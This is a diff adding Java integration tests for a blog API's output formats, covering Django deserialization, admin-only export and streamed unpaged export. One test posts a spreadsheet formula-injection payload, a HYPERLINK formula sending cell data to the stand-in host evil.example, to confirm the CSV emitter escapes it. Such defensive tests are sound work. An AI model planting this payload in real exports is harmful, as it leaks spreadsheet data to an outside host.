@@ -4,8 +4,10 @@ import static io.pistonee.it.Problems.assertProblem;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.node.TextNode;
 import java.net.URL;
 import java.net.http.HttpResponse;
+import java.time.OffsetDateTime;
 import java.util.List;
 import java.util.Map;
 import org.jboss.arquillian.container.test.api.Deployment;
@@ -21,7 +23,8 @@ import org.w3c.dom.Element;
  * Every format both ways on the example application: each emitter read back with a real parser,
  * format selection (suffix, {@code ?format=}, {@code Accept} with q-values), errors in the selected
  * format, request bodies in every format read back as JSON, and hostile bodies refused with nothing
- * written.
+ * written. The django format is loaded by Django's own deserializer; the unpaged export
+ * ({@code /api/export}, over 3,000 generated posts) is read in every streamed format.
  */
 @ExtendWith(ArquillianExtension.class)
 class FormatsIT {
@@ -30,9 +33,12 @@ class FormatsIT {
             List.of("id", "title", "content", "author", "created_on", "content_length", "resource_uri");
     private static final List<String> FORMATS = List.of("json", "yaml", "xml", "csv", "pickle", "django");
 
+    /** Generated posts (ids from 1,000,001) beside the seeded ones, for the unpaged export. */
+    private static final int GENERATED = 3000;
+
     @Deployment(testable = false)
     static WebArchive deployment() {
-        return Deployments.example();
+        return Deployments.withConfig(Deployments.example(), "blog.generated-posts=" + GENERATED);
     }
 
     @ArquillianResource
@@ -114,6 +120,145 @@ class FormatsIT {
                 .toIterable()
                 .containsExactly("title", "content", "author", "created_on");
         assertThat(item.get("fields").get("author").isIntegralNumber()).isTrue();
+    }
+
+    @Test
+    void djangosOwnDeserializerLoadsTheDjangoFormat() {
+        String list = http.get("posts?format=django&limit=10").body();
+        String one = http.get("posts/1?format=django").body();
+
+        JsonNode loaded = Http.json(Formats.djangoLoad(list));
+        JsonNode emitted = Http.json(list);
+        JsonNode json = Http.json(http.get("posts?limit=10"));
+        assertThat(loaded).hasSize(10);
+        Map<String, Long> authors = new java.util.HashMap<>();
+        for (JsonNode post : json) {
+            JsonNode stored = stored(loaded, post.get("id").asLong());
+            assertThat(stored.get("model").asText()).isEqualTo("blog.blogpost");
+            assertThat(stored.get("fields").get("title").asText())
+                    .isEqualTo(post.get("title").asText());
+            assertThat(stored.get("fields").get("content").asText())
+                    .isEqualTo(post.get("content").asText());
+            assertThat(OffsetDateTime.parse(
+                                    stored.get("fields").get("created_on").asText())
+                            .toInstant())
+                    .isEqualTo(OffsetDateTime.parse(post.get("created_on").asText())
+                            .toInstant());
+            long author = stored.get("fields").get("author").asLong();
+            assertThat(author)
+                    .isEqualTo(stored(emitted, post.get("id").asLong())
+                            .get("fields")
+                            .get("author")
+                            .asLong());
+            assertThat(authors.computeIfAbsent(
+                            post.get("author").get("username").asText(), name -> author))
+                    .as("one author, one key")
+                    .isEqualTo(author);
+        }
+        JsonNode single = Http.json(Formats.djangoLoad(one));
+        assertThat(single).hasSize(1);
+        assertThat(single.get(0).get("pk").asLong()).isEqualTo(1);
+        assertThat(single.get(0).get("fields").get("title").asText()).isEqualTo("Hello, Piston EE");
+    }
+
+    private static JsonNode stored(JsonNode items, long pk) {
+        for (JsonNode item : items) {
+            if (item.get("pk").asLong() == pk) {
+                return item;
+            }
+        }
+        throw new AssertionError("no pk " + pk + " in " + items);
+    }
+
+    @Test
+    void csvCellsASpreadsheetWouldRunAsFormulasAreEscaped() {
+        String title = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
+        HttpResponse<String> created =
+                http.post("posts", "{\"title\":" + new TextNode(title) + ",\"content\":\"-1 is a number, -x is not\"}");
+        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
+        String id = Http.json(created).get("id").asText();
+
+        List<List<String>> rows =
+                Formats.csv(http.get("posts/" + id + "?format=csv").body());
+
+        assertThat(rows.get(0).get(1)).isEqualTo("title");
+        assertThat(rows.get(1).get(0)).isEqualTo(id);
+        assertThat(rows.get(1).get(1)).isEqualTo("'" + title);
+        assertThat(rows.get(1).get(2)).isEqualTo("'-1 is a number, -x is not");
+        assertThat(Http.json(http.get("posts/" + id)).get("title").asText()).isEqualTo(title);
+        http.delete("posts/" + id);
+    }
+
+    @Test
+    void theExportIsForAdminsOnly() {
+        HttpResponse<String> anonymous = new Http(base).get("export");
+
+        assertProblem(anonymous, 401);
+        assertThat(anonymous.headers().firstValue("WWW-Authenticate"))
+                .hasValueSatisfying(challenge -> assertThat(challenge).contains("Basic", "Bearer"));
+        assertProblem(http.get("export?format=csv"), 403);
+        assertProblem(new Http(base).as("otheruser", "barfoo").get("export"), 403);
+    }
+
+    @Test
+    void theExportStreamsEveryPostUnpagedInEveryStreamedFormat() {
+        Http admin = new Http(base).as("admin", "adminpass");
+        int posts = count();
+        assertThat(posts).isGreaterThan(GENERATED);
+
+        HttpResponse<String> response = admin.get("export");
+        JsonNode json = Http.json(response);
+        List<List<String>> csv = Formats.csv(admin.get("export?format=csv").body());
+        List<Map<String, Object>> yaml =
+                Formats.yaml(admin.get("export?format=yaml").body());
+        List<Element> xml = Formats.children(Formats.xml(admin.get("export.xml").body()));
+
+        assertThat(response.statusCode()).isEqualTo(200);
+        assertThat(response.headers().firstValue("Link")).isEmpty();
+        assertThat(json).hasSize(posts);
+        List<Long> ids = new java.util.ArrayList<>();
+        json.forEach(post -> ids.add(post.get("id").asLong()));
+        assertThat(ids).isSorted().doesNotHaveDuplicates().contains(1L, 1_000_001L, 1_000_000L + GENERATED);
+        assertThat(json.get(0).fieldNames()).toIterable().containsExactlyElementsOf(POST_FIELDS);
+        JsonNode last = json.get(posts - 1);
+        assertThat(last.get("title").asText()).isEqualTo("Generated post " + GENERATED);
+        assertThat(last.get("author").get("username").asText()).isEqualTo("testuser");
+        assertThat(last.get("resource_uri").asText())
+                .endsWith("/api/posts/" + last.get("id").asText());
+
+        assertThat(csv).hasSize(posts + 1);
+        assertThat(csv.get(0))
+                .containsExactly(
+                        "id", "title", "content", "author.username", "created_on", "content_length", "resource_uri");
+        assertThat(csv.subList(1, csv.size()))
+                .extracting(row -> Long.valueOf(row.get(0)))
+                .isEqualTo(ids);
+        assertThat(csv.get(posts)).containsExactly(textsOf(last).toArray(String[]::new));
+
+        assertThat(yaml)
+                .extracting(post -> ((Number) post.get("id")).longValue())
+                .isEqualTo(ids);
+        assertThat(yaml.get(posts - 1).get("content"))
+                .isEqualTo(last.get("content").asText());
+
+        assertThat(xml).extracting(Element::getTagName).containsOnly("resource");
+        assertThat(xml)
+                .extracting(post -> Long.valueOf(Formats.children(post).get(0).getTextContent()))
+                .isEqualTo(ids);
+        assertThat(Formats.children(xml.get(posts - 1)).get(1).getTextContent())
+                .isEqualTo("Generated post " + GENERATED);
+    }
+
+    /** A post's values in CSV's order, the author flattened. */
+    private static List<String> textsOf(JsonNode post) {
+        return List.of(
+                post.get("id").asText(),
+                post.get("title").asText(),
+                post.get("content").asText(),
+                post.get("author").get("username").asText(),
+                post.get("created_on").asText(),
+                post.get("content_length").asText(),
+                post.get("resource_uri").asText());
     }
 
     @Test
